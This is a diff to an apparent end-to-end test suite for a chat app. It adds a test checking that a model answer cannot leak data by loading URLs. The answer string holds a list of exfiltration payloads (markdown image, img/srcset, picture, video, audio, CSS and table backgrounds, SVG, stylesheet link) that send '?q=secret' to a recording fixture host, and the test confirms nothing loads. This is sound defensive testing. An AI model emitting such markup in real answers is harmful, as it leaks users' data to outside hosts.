@@ -205,15 +205,51 @@ test('reload: the conversation is in the sidebar and opens; delete removes it an
   await page.getByText('No conversations yet.').waitFor();
 });
 
+test('an answer that tries to load URLs (images, srcset, media, CSS, table backgrounds) loads nothing; external images are links', async () => {
+  // Another origin that records every request: the leak would show up here.
+  const web = await serveFixtureWeb();
+  try {
+    const at = (name: string) => `${web.origin}/leak/${name}?q=secret`;
+    const output = [
+      `Here is the chart: ![chart](${at('md-image')})`,
+      `<img src="${at('img')}" alt="raw">`,
+      `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="${at('srcset')} 2x">`,
+      `<picture><source srcset="${at('picture')}"><img src="${at('picture-img')}"></picture>`,
+      `<video src="${at('video')}" poster="${at('poster')}" autoplay></video><audio src="${at('audio')}" autoplay></audio>`,
+      `<p style="background:url(${at('style')})">styled</p><style>p{background:url(${at('sheet')})}</style>`,
+      `<table background="${at('table')}"><tr><td background="${at('td')}">cell</td></tr></table>`,
+      `<svg><image href="${at('svg')}"/></svg><link rel="stylesheet" href="${at('link')}"><input type="image" src="${at('input')}">`,
+    ].join('\n\n');
+    await send(page, script(output, { delay_ms: 2, chunk: 7 }));
+    await waitForAnswer(page);
+    // Let anything that was going to load have its chance: images done (loaded or failed),
+    // then a moment for media and styles.
+    await page.waitForFunction(() => Array.from(document.querySelectorAll<HTMLImageElement>('.answer img')).every((img) => img.complete));
+    await page.waitForTimeout(1000);
+    expect(web.requests).toEqual([]);
+    const answer = lastTurn(page).locator('.answer .markdown');
+    const link = answer.locator('a.image-link').first();
+    expect(await link.innerText()).toContain(`chart — Open image from ${new URL(web.origin).host}`);
+    expect(await link.getAttribute('href')).toBe(at('md-image'));
+    expect(await answer.locator('img').count()).toBe(1); // the data: one
+  } finally {
+    await web.close();
+  }
+});
+
 test('web search: the searched query with its sources, the opened page and the find-in-page are cards; the answer cites its source', async () => {
   const web = await serveFixtureWeb();
   const searching = await e2e.browser.newContext({ viewport: DESKTOP });
   try {
-    // Test knobs: the fixture web's SearXNG as provider, on a private (loopback) address.
-    const tab = await openChat(searching, e2e.app.origin, `&allow-private-network&searxng=${encodeURIComponent(web.origin)}`);
+    // As a person would: the fixture web's SearXNG as provider in the settings (its
+    // loopback host is then allowed), which applies from the next reload.
+    const tab = await openChat(searching, e2e.app.origin);
     await tab.getByRole('button', { name: 'Settings' }).click();
-    await tab.getByLabel('Web search').check();
+    await tab.getByLabel('Web search', { exact: true }).check();
+    await tab.getByLabel('Search provider (SearXNG address)').fill(web.origin);
     await tab.keyboard.press('Escape');
+    await tab.reload();
+    await waitForRuntime(tab);
     const url = `${web.origin}/pages/paris.html`;
     const call = (name: string, args: object) => `<tool_call>${JSON.stringify({ name, arguments: args })}</tool_call>`;
     await send(
